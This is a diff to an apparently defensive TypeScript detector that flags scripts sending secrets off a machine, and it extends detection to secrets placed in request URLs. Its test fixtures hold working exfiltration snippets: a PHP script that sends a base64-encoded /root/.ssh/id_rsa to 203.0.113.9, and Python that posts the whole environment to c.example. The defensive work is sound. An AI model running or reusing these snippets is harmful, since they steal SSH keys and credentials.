@@ -1,8 +1,8 @@
-import type { ExfiltrateEffect, SecretKind } from '../trace/effect.ts';
+import type { ExfiltrateEffect, FetchEffect, SecretKind } from '../trace/effect.ts';
 import { secretAt, secretsIn } from '../trace/effects/secrets.ts';
-import { render } from '../trace/value.ts';
+import { render, textOf, type Value } from '../trace/value.ts';
 import { type Destination, destinationOf, leaves } from './destinations.ts';
-import type { Detector } from './detector.ts';
+import type { Detector, FindingDraft, Scene } from './detector.ts';
 import { effectsOf } from './effects-of.ts';
 import { feeding, isScript } from './script-flow.ts';
 import { secretWords } from './secret-words.ts';
@@ -67,6 +67,16 @@ on the machine, in the cluster or goes to the cloud's own interface is nothing.
       },
     },
     {
+      name: 'in the address, in PHP',
+      image: {
+        cmd: ['php', '/a.php'],
+        files: {
+          '/a.php':
+            "<?php\n$k = file_get_contents('/root/.ssh/id_rsa');\nfile_get_contents('http://203.0.113.9/?d=' . urlencode(base64_encode($k)));\n",
+        },
+      },
+    },
+    {
       name: 'the environment, in Python',
       image: {
         cmd: ['python3', '-c', "import os,requests\nrequests.post('https://c.example/', json=dict(os.environ))"],
@@ -90,6 +100,37 @@ on the machine, in the cluster or goes to the cloud's own interface is nothing.
             'env = dict(os.environ)',
             "result = open('/tmp/result.json').read()",
             "requests.post('https://api.example/results', headers={'Authorization': token}, data=result)",
+          ].join('\n'),
+        },
+      },
+    },
+    {
+      name: 'the cluster’s interface, in Python',
+      image: {
+        cmd: ['python3', '/s.py'],
+        files: {
+          '/s.py': [
+            'import os, requests',
+            "token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
+            "base = 'https://' + os.environ['KUBERNETES_SERVICE_HOST']",
+            'body = {"status": str(os.getpid())}',
+            "requests.patch(base + '/api/v1/namespaces/a/configmaps/b', headers={'Authorization': 'Bearer ' + token}, json=body)",
+          ].join('\n'),
+        },
+      },
+    },
+    {
+      name: 'a token shown to its registry, in Node',
+      image: {
+        cmd: ['node', '/p.js'],
+        files: {
+          '/p.js': [
+            "const fs = require('fs'), https = require('https');",
+            "const rc = fs.readFileSync(process.env.HOME + '/.npmrc', 'utf8');",
+            "const token = rc.split('_authToken=')[1].trim();",
+            'const body = JSON.stringify({ name: "x", version: process.env.VERSION });',
+            "const r = https.request({ hostname: 'registry.npmjs.org', path: '/x', method: 'PUT', headers: { Authorization: 'Bearer ' + token } });",
+            'r.write(body); r.end();',
           ].join('\n'),
         },
       },
@@ -139,28 +180,69 @@ on the machine, in the cluster or goes to the cloud's own interface is nothing.
     },
   ],
   detect(scene) {
-    return effectsOf(scene, 'exfiltrate').flatMap((effect) => {
+    const sent = effectsOf(scene, 'exfiltrate').flatMap((effect) => {
       if (effect.via === 'dns' || effect.via === 'icmp') return [];
       const direct = secretsOf(effect);
-      const stage = scene.story.stages[effect.stage];
-      const kinds = direct.size === 0 && stage && isScript(stage) ? secretsIn(feeding(stage, effect.line)) : direct;
-      const to = destinationOf(effect.to);
-      if (kinds.size === 0 || (!leaves(to) && to.kind !== 'cloud')) return [];
-      if (to.kind === 'cloud' && [...kinds].every((kind) => kind === 'cloud' || kind === 'cluster')) return [];
-      const mild = [...kinds].every((kind) => kind === 'history' || kind === 'dotenv' || kind === 'database');
-      const sighting = sightingOf(scene, effect);
-      const login = kinds.size === 1 && kinds.has('cluster') && isLogin(effect, to);
-      const chosen = mild || isOwnCopy(sighting.command?.name, to) || isGiven(effect);
-      return findingOf(scene, sighting, {
-        threat: login ? 'minor' : chosen ? 'dual-use' : 'hostile',
-        title: `Sends ${secretWords(kinds)} to ${valueWords(effect.to, 100)}`,
-        because: wayWords(effect, to),
-        ...(direct.size === 0 ? { confidence: 'medium' as const } : {}),
-        effects: [effect.id],
-      });
+      return direct.size > 0
+        ? judged(scene, effect, effect.to, direct)
+        : judged(scene, effect, effect.to, fedBy(scene, effect), true);
     });
+    // A script may put it into the address of a plain request.
+    const asked = effectsOf(scene, 'fetch').flatMap((effect) =>
+      effect.command === undefined && textOf(effect.url) === undefined
+        ? judged(scene, effect, effect.url, fedBy(scene, effect), true)
+        : [],
+    );
+    return [...sent, ...asked];
   },
 };
+
+function judged(
+  scene: Scene,
+  effect: ExfiltrateEffect | FetchEffect,
+  address: Value,
+  kinds: ReadonlySet<SecretKind>,
+  indirect = false,
+): readonly FindingDraft[] {
+  const to = destinationOf(address);
+  if (kinds.size === 0 || (!leaves(to) && to.kind !== 'cloud')) return [];
+  if (to.kind === 'cloud' && [...kinds].every((kind) => kind === 'cloud' || kind === 'cluster')) return [];
+  const mild = [...kinds].every((kind) => kind === 'history' || kind === 'dotenv' || kind === 'database');
+  const sighting = sightingOf(scene, effect);
+  const given = isGiven(address);
+  const login = kinds.size === 1 && kinds.has('cluster') && (given || /\/(login|token|oauth)\b/.test(to.text));
+  const chosen = mild || given || isOwnCopy(sighting.command?.name, to);
+  return findingOf(scene, sighting, {
+    threat: login ? 'minor' : chosen ? 'dual-use' : 'hostile',
+    title: `Sends ${secretWords(kinds)} to ${valueWords(address, 100)}`,
+    because: effect.kind === 'exfiltrate' ? wayWords(effect, to) : undefined,
+    ...(indirect ? { confidence: 'medium' as const } : {}),
+    effects: [effect.id],
+  });
+}
+
+/**
+ * What a script sends by the words of the statements that feed it. Tokens are left out: a script shows one to the service it
+ * belongs to with every request, and words do not tell the two apart.
+ */
+function fedBy(scene: Scene, effect: ExfiltrateEffect | FetchEffect): ReadonlySet<SecretKind> {
+  const stage = scene.story.stages[effect.stage];
+  if (!stage || !isScript(stage)) return new Set();
+  const text = feeding(stage, effect.line);
+  const shown = /authorization|bearer|x-[a-z-]{0,20}token|sign/i.test(text);
+  return new Set([...secretsIn(text)].filter((kind) => neverShown.has(kind) || (kind === 'cloud' && !shown)));
+}
+
+const neverShown: ReadonlySet<SecretKind> = new Set<SecretKind>([
+  'password-table',
+  'ssh-key',
+  'environment',
+  'wallet',
+  'browser',
+  'history',
+  'memory',
+  'messenger',
+]);
 
 /** The kinds of secrets that are in what is sent. */
 export function secretsOf(effect: ExfiltrateEffect): ReadonlySet<SecretKind> {
@@ -180,15 +262,14 @@ function isOwnCopy(tool: string | undefined, to: Destination): boolean {
   );
 }
 
-/** A token shown to the service that gives out others for it, as Vault's login with a cluster's token does. */
-function isLogin(effect: ExfiltrateEffect, to: Destination): boolean {
-  return /\/(login|token|oauth)\b/.test(to.text) || isGiven(effect);
-}
-
 /** The address is a variable that whoever runs the image sets. */
-function isGiven(effect: ExfiltrateEffect): boolean {
-  const [head] = effect.to.filter((part) => part !== 'https://' && part !== 'http://');
-  return head !== undefined && typeof head !== 'string' && /^\$\{?[A-Z][A-Z0-9_]{1,60}\}?$/.test(head.hole);
+function isGiven(address: Value): boolean {
+  const [head] = address.filter((part) => part !== 'https://' && part !== 'http://');
+  return (
+    head !== undefined &&
+    typeof head !== 'string' &&
+    /^\$\{?[A-Z][A-Z0-9_]{1,60}\}?$|^os\.(environ|getenv)|^process\.env\.|^getenv|^ENV\b/.test(head.hole)
+  );
 }
 
 function wayWords(effect: ExfiltrateEffect, to: Destination): string | undefined {
